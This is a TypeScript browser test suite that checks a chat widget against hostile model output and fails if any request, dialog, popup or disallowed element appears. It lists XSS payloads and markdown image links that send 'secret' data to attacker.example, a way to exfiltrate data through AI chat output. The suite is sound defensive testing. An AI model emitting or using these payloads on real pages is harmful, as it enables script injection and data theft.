import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import type { SourceDocument } from '../../core/document.ts'
import {
  CHROMIUM,
  cite,
  delta,
  embedding,
  finish,
  NEEDS_BROWSER,
  type Script,
  start,
  useBrowser,
} from './browser.suite.ts'

/** Hostile output of a model, of the kinds that the public sets have few of. */
const OWN = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '![x](http://attacker.example/?q=secret)',
  '[![x](http://attacker.example/i.png)](javascript:alert(1))',
  '[click](javascript:alert(1)) [click](JaVa\tScRiPt:alert(1)) [click](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)> javascript:alert(1) <http://attacker.example/x>',
  '[a]: javascript:alert(1)\n\n[a] [x][a]',
  '[x](http://attacker.example "onmouseover=alert(1)")',
  '```html\n<img src=x onerror=alert(1)>\n```\n`<svg onload=alert(1)>`',
  '| <img src=http://attacker.example/a> |\n|---|\n| ![y](//attacker.example/b) |\n',
  '- [x] <iframe src="javascript:alert(1)"></iframe>\n- [ ] ![z](http://attacker.example/c)',
  '<style>@import url(http://attacker.example/d)</style><link rel=stylesheet href=http://attacker.example/e>',
  '$\\href{javascript:alert(1)}{x}$ \\(\\unicode{x}\\) $$\n![q](http://attacker.example/f)\n$$',
  '\ue000\ue100\uf0ff[1][2](javascript:alert(1))[3](http://attacker.example/g)',
  `${'>'.repeat(60)} ${'**_~~'.repeat(60)}![deep](http://attacker.example/h)`,
  `${'- '.repeat(40)}x\n${'  '.repeat(60)}- <img src=http://attacker.example/i>`,
]

const bench = process.env.IBID_BENCH

/** The rows of the injection set that are output to be shown. */
function publicRows(): string[] {
  return readFileSync(join(bench!, 'injection', 'garak.jsonl'), 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as { kind: string; text: string })
    .filter(({ kind }) => ['render-markdown', 'render-xss', 'exfil-markdown'].includes(kind))
    .map(({ text }) => text)
}

/** What the widget may be made of; anything else would have come from what it was sent. */
const ELEMENTS = (
  'a article blockquote br button code dialog div em form h2 h3 h4 hr li mark ol p path pre s section span strong ' +
  'svg table td textarea th tr ul'
).split(' ')
const ATTRIBUTES = (
  'aria-busy aria-hidden aria-label aria-labelledby aria-live aria-pressed class d dir enterkeyhint hidden href id lang maxlength ' +
  'open part placeholder rel role rows start style tabindex target title value viewBox'
).split(' ')

describe.skipIf(!CHROMIUM)(`hostile text in the widget${NEEDS_BROWSER}`, { timeout: 120_000 }, () => {
  const browser = useBrowser()

  /** Shows each text in every place that a server's words can come to, and returns whatever it should not have been able to do. */
  async function show(texts: readonly string[], model: string): Promise<string[]> {
    const script: Script = async function* ({ question }) {
      const text = texts[Number(question)]!
      yield start(model)
      yield { type: 'source', documentId: text, title: text, url: text, publishedAt: text, author: text }
      // In pieces, so that the widget sees what is hostile before it is whole.
      for (let at = 0; at < text.length; at += 7) yield delta(text.slice(at, at + 7))
      const words = {
        title: text,
        url: text,
        author: text,
        publishedAt: text,
        documentId: 'hostile',
        quote: text.slice(0, 40),
      }
      yield delta(' [1] [2]')
      yield cite(1, { ...words, start: 0, end: Math.min(40, text.length) })
      yield cite(2, words)
      const values = [1, 2].map((n) => ({ value: text, citations: [n], publishedAt: text }))
      yield { type: 'conflict', conflict: { about: text, values } }
      yield finish({ status: 'not_found', shortAnswer: text.slice(0, 10), followUps: [text] })
    }
    let current = ''
    const document = (id: string): SourceDocument => ({
      id,
      title: current,
      author: current,
      publisher: current,
      publishedAt: current,
      url: current,
      mediaType: 'text/html',
      hash: 'ab'.repeat(32),
      text: `${current} and more`,
    })
    let endpoint = ''
    // The page has no policy: what holds here holds by the widget alone.
    const site = await browser.site(() => embedding(endpoint, 'mode="inline"'))
    endpoint = await browser.scripted(script, {
      allowedOrigins: [site],
      documents: { get: async (id) => document(id), list: async () => [document('one')] },
    })
    const page = await browser.page()
    const done: string[] = []
    page.on('request', (request) => {
      const url = request.url()
      if (!url.startsWith(`${endpoint}/`) && url !== `${site}/` && url !== `${site}/favicon.ico`)
        done.push(`request: ${url}`)
    })
    page.on('dialog', (dialog) => {
      done.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    page.on('popup', (popup) => done.push(`popup: ${popup.url()}`))
    page.on('framenavigated', (frame) => frame.url() === `${site}/` || done.push(`navigated: ${frame.url()}`))
    await page.exposeFunction('ran', (what: string) => done.push(`script: ${what}`))
    await page.addInitScript(() => {
      for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'] as const)
        Object.assign(window, { [name]: () => (window as unknown as { ran(what: string): void }).ran(name) })
    })
    await page.goto(site)
    await page.locator('.composer').waitFor()
    for (const [i, text] of texts.entries()) {
      current = text
      for (const fault of await faultsOf(page, i, i % 10 === 0)) done.push(`${JSON.stringify(text)}: ${fault}`)
    }
    await page.waitForLoadState('networkidle')
    return [...done, ...page.troubles]
  }

  /** Asks for a text, opens its source, and looks at all that the widget then consists of. */
  function faultsOf(page: Page, i: number, view: boolean): Promise<string[]> {
    return page.evaluate(
      async ({ i, view, ELEMENTS, ATTRIBUTES }) => {
        const chat = document.querySelector('ibid-chat') as HTMLElement & { ask(question: string): void; reset(): void }
        const root = chat.shadowRoot!
        const until = async (condition: () => unknown) => {
          for (let tries = 0; !condition(); tries++) {
            if (tries > 2000) throw new Error(`text ${i} is not shown: ${root.querySelector('.log')?.textContent}`)
            await new Promise((resolve) => setTimeout(resolve, 2))
          }
        }
        chat.reset()
        await until(() => !root.querySelector('.turn'))
        chat.ask(String(i))
        // The titles of what there is instead come last.
        await until(() => root.querySelector('.titles'))
        if (view) {
          root.querySelector<HTMLElement>('.card button')!.click()
          await until(() => root.querySelector('.viewer mark'))
        }
        const faults: string[] = []
        for (const element of root.querySelectorAll('*')) {
          if (!ELEMENTS.includes(element.localName)) faults.push(`<${element.localName}>`)
          for (const { name, value } of element.attributes) {
            if (!ATTRIBUTES.includes(name)) faults.push(`${element.localName} ${name}=${value}`)
          }
          const { protocol } = element as HTMLAnchorElement
          if (element.hasAttribute('href') && !['http:', 'https:', 'mailto:'].includes(protocol))
            faults.push(`link ${protocol}`)
          if (element.hasAttribute('href') && !element.getAttribute('rel')?.includes('noopener'))
            faults.push('link without rel')
        }
        if (view) root.querySelector<HTMLDialogElement>('.viewer')!.close()
        return faults
      },
      { i, view, ELEMENTS, ATTRIBUTES },
    )
  }

  it.each(['extractive', 'scripted:model'])('does nothing in what %s says', async (model) => {
    expect(await show(OWN, model)).toEqual([])
  })

  it.skipIf(!bench)(
    `does nothing in all of the public set${bench ? '' : ' (skipped: IBID_BENCH is not set)'}`,
    async () => {
      const rows = publicRows()
      expect(rows.length).toBeGreaterThan(250)
      expect(await show(rows, 'scripted:model')).toEqual([])
    },
  )

  it('would be noticed if it did something', async () => {
    const page = await browser.page()
    const site = await browser.site(() => '<body><img src="http://attacker.example/x">')
    const requested = page.waitForRequest('http://attacker.example/x')
    await page.goto(site)
    expect((await requested).url()).toContain('attacker')
  })
})
